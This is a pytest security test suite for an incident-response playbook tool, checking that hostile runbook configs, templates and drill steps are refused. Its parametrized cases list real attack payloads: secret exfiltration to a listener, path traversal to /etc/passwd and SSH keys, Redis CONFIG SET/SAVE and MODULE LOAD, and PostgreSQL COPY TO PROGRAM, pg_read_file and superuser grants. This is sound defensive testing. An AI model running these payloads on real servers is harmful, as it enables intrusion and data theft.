"""Trust boundaries, attacked from a runbooks repository and a drill block.

The attacker can edit a playbook, the ``playbook.toml`` beside it, its templates and its
``drill:`` block. Each test checks where the attack would land: what a local listener
received, the files on disk, the Redis and PostgreSQL servers' own state, and every byte
the run left behind (outputs, the SQLite log, evidence, exports).
"""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Cli
from security_support import Listener, everything, write_playbook
from servers import RedisServer, redis_server

from playbook import redaction
from playbook.adapters.plugins import load_playbook as load
from playbook.drill.run import DrillRun
from playbook.drill.sandbox import DrillError, DrillSandbox
from playbook.drill.steps import apply_step
from playbook.errors import TemplateError
from playbook.service import Service

PROD_SECRET = "PRODSECRET-9d1e-never-leaves"
FILE_SECRET = "TOPSECRET-FILE-CONTENT-42"


@pytest.fixture(autouse=True)
def _fresh_registry() -> Iterator[None]:
    """Each test starts as a new process would: knowing no secret yet."""
    redaction._forget_all()
    yield
    redaction._forget_all()


@pytest.fixture(scope="module")
def redis() -> Iterator[RedisServer]:
    with redis_server() as server:
        yield server


def own_config(text: str) -> Path:
    folder = Path(os.environ["XDG_CONFIG_HOME"]) / "playbook"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "playbook.toml").write_text(text)
    return folder / "playbook.toml"


def opened(cli: Cli, playbook: Path) -> str:
    result = cli("open", str(playbook), "--title", "attack", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.output)["id"]


def dbsize_calls(server: RedisServer) -> int:
    with contextlib.closing(server.client()) as admin:
        stats = admin.info("commandstats").get("cmdstat_dbsize", {})
    return int(stats.get("calls", 0))


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Listener]]:
    """A runbooks repository whose playbook.toml sends ${PROD_SECRET} to a listener."""
    monkeypatch.setenv("PROD_SECRET", PROD_SECRET)
    folder = tmp_path / "runbooks-repo"
    write_playbook(folder)
    with Listener() as listener:
        (folder / "playbook.toml").write_text(
            f'[targets]\ncache = "redis://:${{PROD_SECRET}}@127.0.0.1:{listener.port}/0"\n'
        )
        yield folder, listener


def no_secret_anywhere(cli: Cli, incident: str, *outputs: str, secret: str = PROD_SECRET) -> None:
    exports = [cli("export", incident, "--format", f).output for f in ("markdown", "json")]
    assert secret not in everything(cli.home, *outputs, *exports)


# --------------------------------------------------------------------------- playbook.toml


def test_an_untrusted_playbook_toml_redirects_nothing_and_expands_nothing(
    cli: Cli, repo: tuple[Path, Listener]
) -> None:
    folder, listener = repo
    incident = opened(cli, folder / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 2  # the only definition of `cache` was ignored
    assert "No target named 'cache'" in result.output
    assert "not trusted" in result.output and f"playbook trust {folder}" in result.output
    connections, received = listener.close()
    assert (connections, received) == (0, b"")
    no_secret_anywhere(cli, incident, result.output)


def test_an_untrusted_file_is_not_even_expanded_its_variables_may_be_unset(
    cli: Cli, repo: tuple[Path, Listener], redis: RedisServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, listener = repo
    monkeypatch.delenv("PROD_SECRET")
    own_config(f'[targets]\ncache = "{redis.uri}"\n')
    incident = opened(cli, folder / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 0, result.output  # no "PROD_SECRET is not set"
    assert listener.close() == (0, b"")


def test_the_responders_own_config_is_used_and_the_repository_cannot_override_it(
    cli: Cli, repo: tuple[Path, Listener], redis: RedisServer
) -> None:
    folder, listener = repo
    own_config(f'[targets]\ncache = "{redis.uri}"\n')
    before = dbsize_calls(redis)
    incident = opened(cli, folder / "mini.yaml")
    assert cli("trust", str(folder)).exit_code == 0  # even trusted, it cannot re-point cache
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 0, result.output
    assert dbsize_calls(redis) == before + 1  # the responder's server answered
    assert listener.close() == (0, b"")
    no_secret_anywhere(cli, incident, result.output)


def test_after_playbook_trust_the_folder_file_is_used(
    cli: Cli, repo: tuple[Path, Listener]
) -> None:
    folder, listener = repo
    incident = opened(cli, folder / "mini.yaml")
    trusted = cli("trust", str(folder))
    assert trusted.exit_code == 0, trusted.output
    assert "${PROD_SECRET}" in trusted.output  # what it will expand is shown first
    cli("diag", "run", incident, "redis-size")
    connections, received = listener.close()
    assert connections >= 1  # the responder chose this: the file now works
    assert PROD_SECRET.encode() in received


@pytest.mark.parametrize("how", ["edited", "replaced-by-a-symlink", "revoked"])
def test_a_changed_or_revoked_folder_is_ignored_again(
    cli: Cli, repo: tuple[Path, Listener], tmp_path: Path, how: str
) -> None:
    folder, listener = repo
    incident = opened(cli, folder / "mini.yaml")
    assert cli("trust", str(folder)).exit_code == 0
    config = folder / "playbook.toml"
    if how == "edited":
        config.write_text(config.read_text() + "# harmless-looking comment\n")
    elif how == "replaced-by-a-symlink":
        elsewhere = tmp_path / "elsewhere.toml"
        elsewhere.write_text(config.read_text().replace("cache", "cache ") + "\n")
        config.unlink()
        config.symlink_to(elsewhere)
    else:
        assert cli("trust", "--revoke", str(folder)).exit_code == 0
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 2
    assert ("changed since you trusted it" if how != "revoked" else "not trusted") in result.output
    assert listener.close() == (0, b"")
    assert "changed" in cli("trust", "--list").output or how == "revoked"


def test_a_folder_reached_through_a_symlink_is_trusted_by_its_real_path(
    cli: Cli, repo: tuple[Path, Listener], tmp_path: Path
) -> None:
    folder, listener = repo
    link = tmp_path / "link-to-repo"
    link.symlink_to(folder)
    assert cli("trust", str(link)).exit_code == 0
    listed = json.loads(cli("trust", "--list", "--json").output)["folders"]
    assert [f["folder"] for f in listed] == [str(folder.resolve())]
    # the link now points at another repository: that one is not trusted
    other = tmp_path / "other-repo"
    write_playbook(other)
    (other / "playbook.toml").write_text((folder / "playbook.toml").read_text())
    link.unlink()
    link.symlink_to(other)
    incident = opened(cli, link / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 2 and "not trusted" in result.output
    assert listener.close() == (0, b"")


@pytest.mark.parametrize("endless", ["huge-file", "/dev/zero"])
def test_a_playbook_toml_that_never_ends_is_not_read_and_stops_nothing(
    cli: Cli, repo: tuple[Path, Listener], redis: RedisServer, tmp_path: Path, endless: str
) -> None:
    folder, listener = repo
    own_config(f'[targets]\ncache = "{redis.uri}"\n')
    if endless == "huge-file":
        huge = tmp_path / "huge.toml"
        with huge.open("wb") as fh:
            fh.truncate(1024**3)  # a sparse gigabyte
        source: Path = huge
    else:
        source = Path(endless)
    (folder / "playbook.toml").unlink()
    (folder / "playbook.toml").symlink_to(source)
    incident = opened(cli, folder / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 0, result.output
    assert endless != "huge-file" or "byte limit" in result.output
    assert listener.close() == (0, b"")


def test_a_trust_record_forged_in_the_data_directory_is_not_read(
    cli: Cli, repo: tuple[Path, Listener]
) -> None:
    folder, listener = repo
    import hashlib

    sha = hashlib.sha256((folder / "playbook.toml").read_bytes()).hexdigest()
    forged = {
        "version": 1,
        "folders": [{"folder": str(folder.resolve()), "sha256": sha, "trusted_at": "x", "by": "x"}],
    }
    for place in (cli.home, Path(os.environ["PLAYBOOK_HOME"])):
        place.mkdir(parents=True, exist_ok=True)
        (place / "trusted.json").write_text(json.dumps(forged))
    incident = opened(cli, folder / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 2 and "not trusted" in result.output
    assert listener.close() == (0, b"")


def test_a_damaged_trust_record_trusts_nothing_and_says_so(
    cli: Cli, repo: tuple[Path, Listener]
) -> None:
    folder, listener = repo
    record = Path(os.environ["XDG_CONFIG_HOME"]) / "playbook" / "trusted.json"
    record.parent.mkdir(parents=True)
    record.write_text('{"version": 1, "folders": [{"folder": "/"}]}')
    incident = opened(cli, folder / "mini.yaml")
    result = cli("diag", "run", incident, "redis-size")
    assert result.exit_code == 2
    assert "trust record is damaged" in result.output and "Traceback" not in result.output
    assert listener.close() == (0, b"")


@pytest.mark.parametrize(
    "grant",
    [
        'cache = { uri = "redis://127.0.0.1:1/0", privileged = true }',
        'cache = { uri = "redis://127.0.0.1:1/0", functions = ["public.pwn"] }',
        'cache = "redis://127.0.0.1:1/0"\n[shell]\nallow_unsandboxed = true',
    ],
)
def test_a_folder_file_cannot_grant_what_only_the_responder_may(
    cli: Cli, tmp_path: Path, grant: str
) -> None:
    folder = tmp_path / "repo"
    write_playbook(folder)
    (folder / "playbook.toml").write_text(f"[targets]\n{grant}\n")
    result = cli("trust", str(folder))
    assert result.exit_code == 2
    assert "only your own config can" in result.output
    record = Path(os.environ["XDG_CONFIG_HOME"]) / "playbook" / "trusted.json"
    assert not record.exists() or str(folder) not in record.read_text()


def test_options_reach_the_adapter_only_from_the_responders_own_config(
    tmp_path: Path, service: Service
) -> None:
    from playbook.targets import load_targets

    folder = tmp_path / "repo"
    playbook = write_playbook(folder)
    own_config(
        '[targets]\ndb = { uri = "postgresql://u@127.0.0.1:1/x", privileged = true, '
        'functions = ["reports.total"] }\n[shell]\nallow_unsandboxed = true\n'
    )
    incident = service.open(load(playbook), "t").id
    prepared = service.prepare_diagnostic(incident, "pg-one", {}, load_targets(playbook))
    assert prepared.request.options["target"] == {
        "privileged": True,
        "functions": ["reports.total"],
    }
    assert prepared.request.options["allow_unsandboxed_shell"] is True
    plain = load_targets(playbook, ["db=postgresql://u@127.0.0.1:1/x"])  # --target: no options
    prepared = service.prepare_diagnostic(incident, "pg-one", {}, plain)
    assert prepared.request.options["target"] == {"privileged": False, "functions": []}


# --------------------------------------------------------------------------- templates


TEMPLATE = """
communications:
  template_dir: {template_dir}
  templates:
    note:
      title: A note
      file: {file}
      status: investigating
      phase: investigation
"""


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    path = outside / "id_ed25519"
    path.write_text(FILE_SECRET + "\n")
    return path


def templated(folder: Path, template_dir: str, file: str, body: str | None = "Hi.\n") -> Path:
    playbook = write_playbook(folder, TEMPLATE.format(template_dir=template_dir, file=file))
    (folder / "templates").mkdir(exist_ok=True)
    if body is not None:
        (folder / "templates" / "note.j2").write_text(body)
    return playbook


@pytest.mark.parametrize(
    ("template_dir", "file", "key"),
    [
        ("/", "etc/passwd", "communications.template_dir"),
        ("../../../../../../etc", "passwd", "communications.template_dir"),
        ("~/.ssh", "id_ed25519", "communications.template_dir"),
        ("templates", "/etc/passwd", "communications.templates.note.file"),
        ("templates", "../../outside/id_ed25519", "communications.templates.note.file"),
        ("link-out", "id_ed25519", "communications.template_dir"),
        ("templates", "note-link.j2", "communications.templates.note.file"),
    ],
)
def test_validate_refuses_templates_outside_the_playbooks_folder(
    cli: Cli, tmp_path: Path, secret_file: Path, template_dir: str, file: str, key: str
) -> None:
    folder = tmp_path / "repo"
    playbook = templated(folder, template_dir, file)
    (folder / "link-out").symlink_to(secret_file.parent)
    (folder / "templates" / "note-link.j2").symlink_to(secret_file)
    result = cli("validate", str(playbook))
    assert result.exit_code == 1
    [problem] = [x for x in result.output.splitlines() if f": {key}: " in x]
    written = playbook.read_text().splitlines()
    line = 1 + next(
        i for i, x in enumerate(written) if x.strip().startswith(key.rsplit(".", 1)[-1] + ":")
    )
    assert problem.startswith(f"{playbook}:{line}:")  # file:line:column: key: message
    opened_it = cli("open", str(playbook), "--title", "t")
    assert opened_it.exit_code == 1  # nor can an incident be opened on it
    assert FILE_SECRET not in everything(cli.home, result.output, opened_it.output)


@pytest.mark.parametrize(
    "body",
    [
        '{% include "../../outside/id_ed25519" %}',
        '{% include "../outside/id_ed25519" %}',
        '{% include "/etc/passwd" %}{% include "../../outside/id_ed25519" %}',
        '{% include "sneaky.j2" %}',  # a symlink added after validate
        '{% import "sneaky.j2" as s %}{{ s }}',
        '{% extends "sneaky.j2" %}',
    ],
)
def test_rendering_refuses_an_include_that_leads_outside(
    cli: Cli, tmp_path: Path, secret_file: Path, body: str
) -> None:
    folder = tmp_path / "repo"
    playbook = templated(folder, "templates", "note.j2", body)
    incident = opened(cli, playbook)
    (folder / "templates" / "sneaky.j2").symlink_to(secret_file)
    result = cli("status", incident, "note")
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    no_secret_anywhere(cli, incident, result.output, secret=FILE_SECRET)


def test_an_incident_whose_snapshot_leads_outside_is_refused_at_render(
    service: Service, tmp_path: Path, secret_file: Path
) -> None:
    folder = tmp_path / "repo"
    loaded = load(templated(folder, "templates", "note.j2"))
    # The snapshot as an older version, or a hand-edited playbook, could have recorded it.
    comms = loaded.playbook.communications
    note = comms.templates["note"].model_copy(update={"file": secret_file.name})
    comms = comms.model_copy(
        update={"template_dir": str(secret_file.parent), "templates": {"note": note}}
    )
    hostile = loaded.playbook.model_copy(update={"communications": comms})
    state = service.open(type(loaded)(hostile, loaded.path, loaded.sha256), "t")
    before = len(service.get(state.id).events)
    with pytest.raises(TemplateError, match=r"leads outside|absolute path"):
        service.status(state.id, "note", {})
    assert len(service.get(state.id).events) == before  # nothing recorded
    assert FILE_SECRET not in json.dumps([e.payload for e in service.get(state.id).events])


# --------------------------------------------------------------------------- drill set-up


@pytest.fixture(scope="module")
def sandbox() -> Iterator[DrillSandbox]:
    box = DrillSandbox({"cache": "redis", "db": "postgres"})
    try:
        yield box
    finally:
        box.stop()


def step(target: str, **way: Any) -> Any:
    from playbook.core.model import DrillStep

    return DrillStep.model_validate({"target": target, **way})


def refused(sandbox: DrillSandbox, the_step: Any) -> str:
    """Run a set-up step as a drill does; the server's refusal, as text."""
    with pytest.raises(Exception) as caught, sandbox.handle(the_step.target) as handle:
        apply_step(the_step, handle)
    return str(caught.value)


def admin(sandbox: DrillSandbox, name: str) -> Any:
    return sandbox._servers[name]  # the sandbox's own superuser side, for checking only


def redis_calls(sandbox: DrillSandbox, command: str) -> int:
    with contextlib.closing(admin(sandbox, "cache").client()) as client:
        return int(client.info("commandstats").get(f"cmdstat_{command}", {}).get("calls", 0))


def test_config_set_dir_and_save_are_refused_and_no_file_appears(
    sandbox: DrillSandbox, tmp_path: Path
) -> None:
    target = tmp_path / "dropped"
    target.mkdir()
    attack = [
        ["CONFIG", "SET", "dir", str(target)],
        ["CONFIG", "SET", "dbfilename", "authorized_keys"],
        ["SAVE"],
    ]
    assert "permission" in refused(sandbox, step("cache", redis=attack)).lower()
    assert list(target.iterdir()) == []
    with contextlib.closing(admin(sandbox, "cache").client()) as client:
        assert client.config_get("dir")["dir"] != str(target)
        # the check can fail: the superuser can do exactly this
        client.config_set("dir", str(target))
        client.config_set("dbfilename", "authorized_keys")
        client.save()
        assert (target / "authorized_keys").exists()
        client.config_set("dir", admin(sandbox, "cache").dir)


@pytest.mark.parametrize(
    ("attack", "command"),
    [
        (["DEBUG", "SET-ACTIVE-EXPIRE", "0"], "debug"),
        (["MODULE", "LOAD", "/tmp/evil.so"], "module"),
        (["EVAL", "redis.call('set', 'pwned', '1')", "0"], "eval"),
        (["SCRIPT", "LOAD", "return 1"], "script"),
        (["FLUSHALL"], "flushall"),
        (["ACL", "SETUSER", "drill", "+@all"], "acl"),
        (["SHUTDOWN", "NOSAVE"], "shutdown"),
        (["KEYS", "*"], "keys"),
    ],
)
def test_redis_admin_and_code_commands_are_refused_by_the_server(
    sandbox: DrillSandbox, attack: list[str], command: str
) -> None:
    with sandbox.handle("cache") as data:
        data.set("canary", "alive")
    before = redis_calls(sandbox, command)
    refused(sandbox, step("cache", redis=[attack]))
    assert redis_calls(sandbox, command) == before  # never executed
    with contextlib.closing(admin(sandbox, "cache").client()) as client:
        assert client.get("canary") == b"alive" and client.get("pwned") is None
        assert client.execute_command("MODULE", "LIST") == []


def test_replicaof_and_migrate_never_reach_a_host_of_the_attackers_choosing(
    sandbox: DrillSandbox,
) -> None:
    with Listener() as listener:
        for attack in (
            ["REPLICAOF", "127.0.0.1", str(listener.port)],
            ["MIGRATE", "127.0.0.1", str(listener.port), "canary", "0", "1000"],
        ):
            refused(sandbox, step("cache", redis=[attack]))
        assert listener.close() == (0, b"")


def test_data_commands_still_work_for_set_up(sandbox: DrillSandbox) -> None:
    the_step = step("cache", redis=[["SADD", "s", "a"], ["HSET", "h", "f", "v"], ["SET", "k", "1"]])
    with sandbox.handle("cache") as handle:
        assert apply_step(the_step, handle) == "3 Redis commands"
    with contextlib.closing(admin(sandbox, "cache").client()) as client:
        assert client.smembers("s") == {b"a"} and client.get("k") == b"1"


@pytest.fixture(scope="module")
def server_files(sandbox: DrillSandbox) -> Path:
    """A folder the PostgreSQL server's own user can write to and read from."""
    folder = Path(admin(sandbox, "db").dir)
    (folder / "secret.txt").write_text(FILE_SECRET + "\n")
    (folder / "secret.txt").chmod(0o644)
    return folder


@pytest.mark.parametrize(
    "sql",
    [
        "COPY (SELECT 'x') TO PROGRAM 'touch {dir}/pwned'",
        "COPY (SELECT 'x') TO '{dir}/pwned'",
        "CREATE TABLE t(x text); COPY t FROM PROGRAM 'touch {dir}/pwned'",
        "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {dir}/pwned'''; END $$",
        "SELECT lo_export(lo_from_bytea(0, 'x'), '{dir}/pwned')",
    ],
)
def test_postgres_programs_and_server_files_are_refused_and_nothing_is_written(
    sandbox: DrillSandbox, server_files: Path, sql: str
) -> None:
    message = refused(sandbox, step("db", sql=sql.format(dir=server_files)))
    assert (
        "permission denied" in message or "must be superuser" in message or "privilege" in message
    )
    assert not (server_files / "pwned").exists()


@pytest.mark.parametrize(
    ("n", "sql"),
    [
        ("copy", "CREATE TABLE stolen_{n}(x text); COPY stolen_{n} FROM '{dir}/secret.txt'"),
        ("file", "CREATE TABLE stolen_{n} AS SELECT pg_read_file('{dir}/secret.txt') AS x"),
        ("lo", "CREATE TABLE stolen_{n} AS SELECT lo_import('{dir}/secret.txt') AS x"),
    ],
)
def test_postgres_server_files_cannot_be_read_into_the_drill(
    sandbox: DrillSandbox, server_files: Path, n: str, sql: str
) -> None:
    refused(sandbox, step("db", sql=sql.format(dir=server_files, n=n)))
    with sandbox.handle("db") as conn:  # where the drill's data and its steps live
        assert conn.execute(f"SELECT to_regclass('stolen_{n}')").fetchone() == (None,)
        assert conn.execute("SELECT count(*) FROM pg_largeobject_metadata").fetchone() == (0,)


def test_postgres_cluster_settings_roles_and_extensions_stay_as_they_were(
    sandbox: DrillSandbox,
) -> None:
    auto = Path(admin(sandbox, "db").data) / "postgresql.auto.conf"
    before = auto.read_bytes()
    for sql in (
        "ALTER SYSTEM SET archive_command = 'touch /tmp/pwned'",
        "CREATE EXTENSION file_fdw",
        "CREATE EXTENSION dblink",
        "ALTER ROLE drill SUPERUSER",
        "CREATE ROLE evil SUPERUSER LOGIN",
        "CREATE FUNCTION evil() RETURNS int AS '/lib/x.so', 'evil' LANGUAGE c",
        "SET ROLE playbook",
    ):
        refused(sandbox, step("db", sql=sql))
    assert auto.read_bytes() == before
    with admin(sandbox, "db").connect() as conn:
        assert conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = 'drill'").fetchone() == (
            False,
        )
        assert conn.execute("SELECT count(*) FROM pg_roles WHERE rolname = 'evil'").fetchone() == (
            0,
        )
    with sandbox.handle("db") as conn:
        names = {r[0] for r in conn.execute("SELECT extname FROM pg_extension")}
        assert names == {"plpgsql"}


def test_a_runbook_whose_drill_tries_it_fails_to_start_naming_the_step(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "repo"
    target = tmp_path / "dropped"
    target.mkdir()
    drill = f"""
drill:
  title: A drill
  services: {{cache: redis, db: postgres, api: http, docs: mongo}}
  load:
    - target: cache
      title: innocent data
      redis: [[SET, a, "1"], [CONFIG, SET, dir, "{target}"], [SAVE]]
  fault:
    - target: cache
      delete: "a"
  fingerprint:
    - target: cache
      keys: ["*"]
"""
    loaded = load(write_playbook(folder, drill))
    with pytest.raises(DrillError) as caught:
        DrillRun.start(loaded)
    assert "load step 1 (innocent data)" in caught.value.title
    assert "no permissions" in caught.value.title
    assert list(target.iterdir()) == []


def test_a_drill_still_loads_fingerprints_and_serves_its_data(tmp_path: Path) -> None:
    drill = """
drill:
  title: A drill
  services: {cache: redis, db: postgres, api: http, docs: mongo}
  load:
    - target: cache
      redis: [[SADD, "discord:messages:project:1", m1, m2]]
    - target: db
      sql: CREATE TABLE staff(id int PRIMARY KEY); INSERT INTO staff VALUES (1), (2);
  fault:
    - target: cache
      delete: "discord:messages:*"
  fingerprint:
    - target: cache
      keys: ["discord:messages:*"]
    - target: db
      tables: [staff]
"""
    loaded = load(write_playbook(tmp_path / "repo", drill))
    run = DrillRun.start(loaded)
    try:
        assert len(run.baseline["cache"]) == 1 and len(run.baseline["db"]) == 2
        assert run.fingerprint()["cache"] == {}  # the fault was applied
        # the drill's PostgreSQL target is the ordinary owner, and sees its data
        import psycopg

        with psycopg.connect(run.targets["db"].uri) as conn:
            assert conn.execute("SELECT count(*) FROM staff").fetchone() == (2,)
            row = conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
            assert row.fetchone() == (False,)
    finally:
        run.stop()


# --------------------------------------------------------------------------- the app


async def test_the_app_says_once_which_playbook_toml_it_ignored(
    repo: tuple[Path, Listener], service: Service
) -> None:
    from tui_support import SIZE, make_app, until

    folder, listener = repo
    loaded = load(folder / "mini.yaml")
    incident = service.open(loaded, "attack").id
    app = make_app(service, loaded, incident)
    async with app.run_test(size=SIZE) as pilot:
        state = service.get(incident).state
        got: list[Any] = []
        for _ in range(2):  # loaded on the store thread, as the screens do
            app.submit("targets", lambda: got.append(app.targets(loaded.path, state)))
        await until(pilot, lambda: len(got) == 2, "the targets, twice")
        await until(pilot, lambda: any("not trusted" in m for m in app.said), "the notice")
        await pilot.pause()
        notices = [m for m in app.said if "not trusted" in m]
        assert len(notices) == 1 and f"playbook trust {folder}" in notices[0]
        assert "cache" not in got[0]
    assert listener.close() == (0, b"")
